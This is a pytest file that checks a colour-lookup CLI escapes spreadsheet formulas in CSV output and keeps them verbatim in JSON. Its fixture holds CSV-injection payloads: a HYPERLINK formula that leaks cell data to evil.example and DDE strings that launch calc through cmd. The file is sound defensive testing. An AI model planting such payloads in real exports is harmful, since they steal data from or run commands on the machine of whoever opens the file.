"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP's advice).

A shared dataset may hold strings such as ``=HYPERLINK(...)``: in ``--csv`` output they get a
leading ``'``; in JSON and on screen they stay exactly as written.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from m1lookup.io.text import spreadsheet_safe
from tests.conftest import ROOT, RunCli

BASE = ROOT / "tests" / "fixtures" / "broken" / "base.toml"

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Java Green")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-1+1"
TAB = "\tAlpinweiß"
EQUALS = "=2+3"
CLAIM_NOTE = "+SUM(A1:A9)"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> str:
    """base.toml with a formula in a colour name, German name and paint code, in a source's
    title and publisher, in a market name and a claim's note, and a carriage return in front of
    one more."""
    text = BASE.read_text(encoding="utf-8")
    assert text.count('topic = "built"\n') == 1
    text = text.replace('topic = "built"\n', f'topic = "built"\nnote = {json.dumps(CLAIM_NOTE)}\n')
    for old, value in [
        ('name = "Java Green"', HYPERLINK),
        ('name_de = "Alpinweiß"', TAB),
        ('paint_code = "300"', MINUS),
        ('title = "A press report"', COMMAND),
        ('publisher = "Press"', AT_SUM),
        ('title = "A forum post"', "\r=1+1"),
        ('name = "United Kingdom"', EQUALS),
    ]:
        assert text.count(old) == 1, old
        key = old.split(" = ")[0]
        text = text.replace(old, f"{key} = {json.dumps(value)}")  # a JSON string is TOML too
    path = tmp_path_factory.mktemp("formulas") / "colours.toml"
    path.write_text(text, encoding="utf-8")
    return str(path)


def test_the_hostile_dataset_is_valid(run: RunCli, hostile: str) -> None:
    assert run("validate", hostile).exit_code == 0


def cells(output: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(output)) for cell in row]


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["list", "--csv"], ["'" + HYPERLINK, "'" + TAB, "'" + MINUS]),
        (["stats", "--csv"], ["'" + CLAIM_NOTE]),
        (["sources", "--csv"], ["'" + COMMAND, "'" + AT_SUM, "\\x0d=1+1"]),
        (["markets", "--csv"], ["'" + EQUALS]),
        (["tally", "-", "--csv"], ["'" + HYPERLINK]),
    ],
    ids=" ".join,
)
def test_formulas_in_csv_are_written_as_text(
    run: RunCli, hostile: str, args: list[str], expected: list[str]
) -> None:
    result = run(*args, "--data", hostile, input="colour\nGreen Mamba\nAW\n")
    assert result.exit_code == 0, result.stderr
    written = cells(result.stdout)
    for cell in expected:
        assert cell in written
    assert [cell for cell in written if cell.startswith(FORMULA_STARTS)] == []


def test_json_keeps_the_strings_as_written(run: RunCli, hostile: str) -> None:
    colours = run("list", "--json", "--data", hostile).json()["colours"]
    assert {colour["name"] for colour in colours} == {HYPERLINK, "Alpine White"}
    sources = run("sources", "--json", "--data", hostile).json()["sources"]
    assert (sources[0]["title"], sources[0]["publisher"]) == (COMMAND, AT_SUM)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_spreadsheet_safe_quotes_every_formula_start(start: str) -> None:
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("cell", ["", "Java Green", "'=already text", " =1+1", "1-1", "300"])
def test_spreadsheet_safe_leaves_other_cells_alone(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell
